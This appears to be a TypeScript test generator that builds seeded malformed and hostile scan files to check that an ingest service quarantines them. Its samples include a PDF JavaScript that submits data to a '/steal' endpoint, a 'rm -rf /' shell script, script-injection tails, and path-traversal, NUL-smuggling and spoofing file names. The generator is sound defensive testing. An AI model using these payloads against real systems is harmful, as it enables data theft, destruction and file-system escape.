/**
 * Hostile files by seeded mutation of valid TIFF, JPEG, PNG and PDF samples (issue 13): bit flips and truncations,
 * headers that lie about size or type, images claiming 100,000 × 100,000 pixels, PDFs with 5,000 pages, deep
 * nesting, encryption, JavaScript or forms, polyglots, and names with "..", NUL, great length or odd Unicode. The
 * same seed gives the same files, so a file that failed a run can be made again (`hostileFiles(seed)[i]`).
 *
 * Each file says what must become of it: `quarantine` (no reader may take it), or `either` (a mutation that may or
 * may not leave a readable scan, such as a flipped bit in JPEG data, or a PDF whose JavaScript is never run: taken
 * as pages or quarantined, but never left hanging, failed, or fatal to the server).
 */
import { createHash } from 'node:crypto';
import { execFile } from 'node:child_process';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import sharp from 'sharp';
import { createRng, type Rng } from '../../samples/src/prng.ts';
import { tiffClaiming } from '@sohoa/ingest/testing';

export type Expectation = 'quarantine' | 'either';

export interface HostileFile {
  /** Position in the generated list: `hostileFiles(seed)[index]` makes it again. */
  index: number;
  name: string;
  bytes: Buffer;
  /** The mutation, in words, for the results table. */
  kind: string;
  expect: Expectation;
  /** A NUL or a path separator cannot be a file name on disk: such names go only through uploads. */
  uploadOnly: boolean;
}

export interface Bases { jpeg: Buffer; png: Buffer; tiff: Buffer; pdf: Buffer }

export const HOSTILE_SEED = 20261203;

const repoRoot = path.join(import.meta.dirname, '..', '..');
const scans = path.join(repoRoot, 'samples', 'scans');

/** Small valid samples to mutate: a page of the sample declaration at 600 px wide, in each format. */
export async function makeBases(): Promise<Bases> {
  const page = sharp(await fs.readFile(path.join(scans, 'ks-tokhai-p1.png'))).resize({ width: 600 }).flatten({ background: '#ffffff' });
  const jpeg = await page.clone().jpeg({ quality: 70 }).toBuffer();
  const png = await page.clone().png({ compressionLevel: 9, palette: true }).toBuffer();
  const tiff = await page.clone().tiff({ compression: 'lzw' }).toBuffer();
  const doc = await PDFDocument.create();
  const image = await doc.embedJpg(jpeg);
  const p = doc.addPage([image.width * 0.6, image.height * 0.6]);
  p.drawImage(image, { x: 0, y: 0, width: p.getWidth(), height: p.getHeight() });
  fixDates(doc);
  const pdf = Buffer.from(await doc.save({ useObjectStreams: false }));
  return { jpeg, png, tiff, pdf };
}

// ------------------------------------------------------------------ byte mutations

function flipBits(bytes: Buffer, rng: Rng, count: number): Buffer {
  const out = Buffer.from(bytes);
  // Past the first 16 bytes: the magic stays, so the reader of that format is the one that must cope.
  for (let i = 0; i < count; i++) {
    const at = rng.int(16, out.length - 1);
    out[at]! ^= 1 << rng.int(0, 7);
  }
  return out;
}

const truncate = (bytes: Buffer, fraction: number) => bytes.subarray(0, Math.max(8, Math.floor(bytes.length * fraction)));

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(bytes: Buffer): number {
  let c = 0xffffffff;
  for (const b of bytes) c = CRC_TABLE[(c ^ b) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

/** A PNG whose IHDR claims another size, with a correct CRC: only the pixel data betrays it. */
function pngClaiming(png: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(png);
  out.writeUInt32BE(width, 16);
  out.writeUInt32BE(height, 20);
  out.writeUInt32BE(crc32(out.subarray(12, 29)), 29);
  return out;
}

/** A JPEG whose frame header (SOF) claims another size. */
function jpegClaiming(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  for (let at = 2; at + 9 < out.length;) {
    if (out[at] !== 0xff) break;
    const marker = out[at + 1]!;
    const length = out.readUInt16BE(at + 2);
    if (marker >= 0xc0 && marker <= 0xcf && marker !== 0xc4 && marker !== 0xc8 && marker !== 0xcc) {
      out.writeUInt16BE(height, at + 5);
      out.writeUInt16BE(width, at + 7);
      return out;
    }
    at += 2 + length;
  }
  return out;
}


// ------------------------------------------------------------------ PDF mutations

/** pdf-lib stamps the time: fixed, so that the same seed makes the same bytes (and the same list). */
function fixDates(doc: PDFDocument): void {
  doc.setCreationDate(new Date(0));
  doc.setModificationDate(new Date(0));
}

async function pdfWithPages(count: number): Promise<Buffer> {
  const doc = await PDFDocument.create();
  fixDates(doc);
  for (let i = 0; i < count; i++) doc.addPage([595, 842]);
  return Buffer.from(await doc.save());
}

/** A page of `size` × `size` points: at 200 dpi, 3600 pt is 10000 × 10000 px. */
export async function pdfPageOf(size: number): Promise<Buffer> {
  const doc = await PDFDocument.create();
  fixDates(doc);
  const page = doc.addPage([size, size]);
  const font = await doc.embedFont(StandardFonts.Helvetica);
  page.drawText('TO KHAI DANG KY KHAI SINH', { x: 72, y: size - 144, size: 48, font });
  return Buffer.from(await doc.save());
}

/** A PDF whose page content nests `depth` arrays, and one with a chain of `depth` indirect dictionaries. */
function nestedPdf(depth: number, how: 'array' | 'dict'): Buffer {
  const nested = how === 'array' ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'<< /A '.repeat(depth)}1${' >>'.repeat(depth)}`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Nested ${nested} >>`,
  ];
  const content = 'BT /F1 24 Tf 72 720 Td (x) Tj ET';
  let body = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  offsets.push(Buffer.byteLength(body, 'latin1'));
  body += `4 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`;
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 5\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** The sample scan with an /OpenAction JavaScript, and with an AcroForm text field over it. */
async function pdfWithActiveContent(base: Buffer, what: 'javascript' | 'form'): Promise<Buffer> {
  const doc = await PDFDocument.load(base, { updateMetadata: false });
  if (what === 'javascript') {
    const js = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("x"); this.submitForm("http://127.0.0.1:9/steal");') });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(js));
  } else {
    const form = doc.getForm();
    const field = form.createTextField('citizen.id');
    field.setText('001099012345');
    field.addToPage(doc.getPage(0), { x: 20, y: 20, width: 200, height: 24 });
  }
  return Buffer.from(await doc.save());
}

const run = promisify(execFile);

/** qpdf's AES-256 with a user password: no reader opens it without the password. */
async function encryptedPdf(base: Buffer, userPassword: string): Promise<Buffer> {
  const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'sohoa-hostile-'));
  try {
    await fs.writeFile(path.join(dir, 'in.pdf'), base);
    await run('qpdf', ['--encrypt', userPassword, 'owner-secret', '256', '--', path.join(dir, 'in.pdf'), path.join(dir, 'out.pdf')]);
    return await fs.readFile(path.join(dir, 'out.pdf'));
  } finally {
    await fs.rm(dir, { recursive: true, force: true });
  }
}

// ------------------------------------------------------------------ names

/**
 * Names that have broken file handling elsewhere; `upload` ones cannot be dropped in the hot folder: a NUL or "/"
 * cannot be in a file name on disk, and a name starting with a dot is a partial upload the hot folder leaves alone.
 */
const ODD_NAMES: { name: (ext: string) => string; upload: boolean }[] = [
  { name: (ext) => `../../../../tmp/sohoa-escape.${ext}`, upload: true },
  { name: (ext) => `..\\..\\windows\\${'x'}.${ext}`, upload: true },
  { name: (ext) => `..${ext}`, upload: true },
  { name: (ext) => `a..b...${ext}`, upload: false },
  { name: (ext) => `scan\u0000.${ext}.exe`, upload: true },
  { name: (ext) => `${'ệ'.repeat(81)}.${ext}`, upload: false }, // 243 + 4 bytes: the disk's limit, not the quarantine's
  { name: (ext) => `${'a'.repeat(4000)}.${ext}`, upload: true },
  { name: (ext) => `to-khai\u202Egpj.${ext}`, upload: false }, // right-to-left override: shows as "to-khai<ext>.jpg"
  { name: (ext) => `Tờ khai\u200B\u200D\uFEFF.${ext}`, upload: false },
  { name: (ext) => `To\u0302\u0300 khai.${ext}`, upload: false }, // NFD: combining marks
  { name: (ext) => `📄🏛️.${ext}`, upload: false },
  { name: (ext) => `CON.${ext}`, upload: false },
  { name: (ext) => ` .${ext}. `, upload: false },
  { name: (ext) => `\uD800broken.${ext}`, upload: true }, // a lone surrogate: not UTF-8 at all
  { name: (ext) => `line\nbreak\r.${ext}`, upload: true },
  { name: () => '.', upload: true },
  { name: (ext) => `%2e%2e%2f%2e%2e%2fetc.${ext}`, upload: false },
];

// ------------------------------------------------------------------ the list

type Maker = (rng: Rng, b: Bases) => Promise<{ bytes: Buffer; kind: string; expect: Expectation; ext: string }> | { bytes: Buffer; kind: string; expect: Expectation; ext: string };

const FORMATS = ['jpeg', 'png', 'tiff', 'pdf'] as const;
const EXT: Record<(typeof FORMATS)[number], string> = { jpeg: 'jpg', png: 'png', tiff: 'tif', pdf: 'pdf' };

/** Each maker, with how many files it contributes to a list of 200+. */
const MAKERS: [Maker, number][] = [
  // A flipped bit may land in pixel data that still decodes: a readable scan, or a refused one.
  [(rng, b) => { const f = rng.pick(FORMATS); const n = rng.int(1, 64); return { bytes: flipBits(b[f], rng, n), kind: `${f}: ${n} bits flipped`, expect: 'either', ext: EXT[f] }; }, 60],
  // Cut JPEGs and PNGs lose their end markers, which the reader insists on; a cut TIFF or PDF may keep whole pages.
  [(rng, b) => { const f = rng.pick(FORMATS); const k = rng.range(0.05, 0.95); return { bytes: truncate(b[f], k), kind: `${f}: truncated to ${Math.round(k * 100)} %`, expect: f === 'jpeg' || f === 'png' ? 'quarantine' : 'either', ext: EXT[f] }; }, 40],
  [(rng, b) => ({ bytes: b.png.subarray(0, rng.int(8, 40)), kind: 'png: header only', expect: 'quarantine', ext: 'png' }), 4],
  [(rng, b) => { const s = rng.pick([100_000, 65_535, 50_000]); return { bytes: pngClaiming(b.png, s, s), kind: `png: IHDR claims ${s}×${s}`, expect: 'quarantine', ext: 'png' }; }, 8],
  [(rng, b) => { const s = rng.pick([65_535, 60_000, 20_000]); return { bytes: jpegClaiming(b.jpeg, s, s), kind: `jpeg: SOF claims ${s}×${s}`, expect: 'quarantine', ext: 'jpg' }; }, 8],
  [(rng) => { const s = rng.pick([100_000, 70_000]); return { bytes: tiffClaiming(1, s, s), kind: `tiff: claims ${s}×${s}`, expect: 'quarantine', ext: 'tif' }; }, 6],
  [(rng) => { const n = rng.int(7, 12); return { bytes: tiffClaiming(n, 10_000, 9_990), kind: `tiff: ${n} pages of 10000×9990 in ${(8 + n * 112) / 1000} KB`, expect: 'quarantine', ext: 'tif' }; }, 6],
  [(rng, b) => { const pick = rng.pick(['png', 'jpeg', 'tiff'] as const); return { bytes: pick === 'png' ? b.png : pick === 'jpeg' ? b.jpeg : b.tiff, kind: `${pick} named .pdf (type lie in the name)`, expect: 'either', ext: 'pdf' }; }, 3],
  [(rng, b) => { const magic = rng.pick([[0xff, 0xd8, 0xff, 0xe0], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], [0x49, 0x49, 0x2a, 0x00]]); return { bytes: Buffer.concat([Buffer.from(magic), b.pdf.subarray(0, 2000)]), kind: `image magic before a cut PDF (header lies about the type)`, expect: 'quarantine', ext: 'jpg' }; }, 8],
  [async () => ({ bytes: await pdfWithPages(5000), kind: 'pdf: 5000 pages', expect: 'quarantine', ext: 'pdf' }), 3],
  [async (rng) => { const s = rng.pick([14_400, 20_000, 100_000]); return { bytes: await pdfPageOf(s), kind: `pdf: one page of ${s}×${s} pt`, expect: 'quarantine', ext: 'pdf' }; }, 4],
  [(rng) => { const d = rng.pick([10_000, 100_000, 400_000]); const how = rng.pick(['array', 'dict'] as const); return { bytes: nestedPdf(d, how), kind: `pdf: ${how}s nested ${d} deep`, expect: 'either', ext: 'pdf' }; }, 8],
  [async (rng, b) => ({ bytes: await encryptedPdf(b.pdf, `pw-${rng.digits(6)}`), kind: 'pdf: AES-256 encrypted, user password', expect: 'quarantine', ext: 'pdf' }), 4],
  [async (rng, b) => { const what = rng.pick(['javascript', 'form'] as const); return { bytes: await pdfWithActiveContent(b.pdf, what), kind: `pdf: ${what === 'javascript' ? 'OpenAction JavaScript' : 'AcroForm field'}`, expect: 'either', ext: 'pdf' }; }, 6],
  // Polyglots: an image that is also a ZIP or HTML, a PDF behind an HTML page, a GIF header before a PDF.
  [(rng, b) => ({ bytes: Buffer.concat([b.jpeg, Buffer.from('PK\u0003\u0004zip-after-image<script>alert(1)</script>', 'latin1')]), kind: 'polyglot: JPEG + ZIP/HTML tail', expect: 'either', ext: 'jpg' }), 4],
  [(rng, b) => ({ bytes: Buffer.concat([Buffer.from('<!DOCTYPE html><html><script>alert(1)</script>\n', 'latin1'), b.pdf]), kind: 'polyglot: HTML page, then a PDF', expect: 'either', ext: 'pdf' }), 4],
  [(rng, b) => ({ bytes: Buffer.concat([Buffer.from('GIF89a\u0001\u0000\u0001\u0000', 'latin1'), Buffer.alloc(rng.int(0, 900), 0x20), b.pdf]), kind: 'polyglot: GIF header, then a PDF', expect: 'either', ext: 'pdf' }), 4],
  [(rng) => ({ bytes: Buffer.from(rng.pick(['PK\u0003\u0004', '<?xml version="1.0"?><svg/>', 'MZ\u0090\u0000', '#!/bin/sh\nrm -rf /\n', '\u0000'.repeat(64)]), 'latin1'), kind: 'not a scan (ZIP, SVG, executable, script, zeros)', expect: 'quarantine', ext: 'tif' }), 6],
  [() => ({ bytes: Buffer.alloc(0), kind: 'empty file', expect: 'quarantine', ext: 'png' }), 2],
];

/**
 * At least `count` distinct hostile files from `seed`, each maker in proportion (`count` 0: one of each, the quick
 * subset `npm test` sends), odd names on a third of them.
 */
export async function hostileFiles(seed = HOSTILE_SEED, count = 200): Promise<HostileFile[]> {
  const bases = await makeBases();
  const rng = createRng(seed);
  const total = MAKERS.reduce((n, [, share]) => n + share, 0);
  const files: HostileFile[] = [];
  const seen = new Set<string>();
  for (const [m, [maker, share]] of MAKERS.entries()) {
    const wanted = count === 0 ? 1 : Math.ceil((share / total) * count);
    const own = rng.fork(`maker-${m}`);
    for (let made = 0, tries = 0; made < wanted && tries < wanted * 5; tries++) {
      const file = await maker(own, bases);
      const digest = createHash('sha256').update(file.bytes).digest('hex');
      if (seen.has(digest)) continue; // one file per content: each is followed by its digest
      seen.add(digest);
      made++;
      const odd = own.chance(1 / 3) ? own.pick(ODD_NAMES) : null;
      const name = odd ? odd.name(file.ext) : `hostile-${files.length + 1}.${file.ext}`;
      files.push({ index: files.length, name, bytes: file.bytes, kind: file.kind, expect: file.expect, uploadOnly: odd?.upload ?? false });
    }
  }
  return files;
}
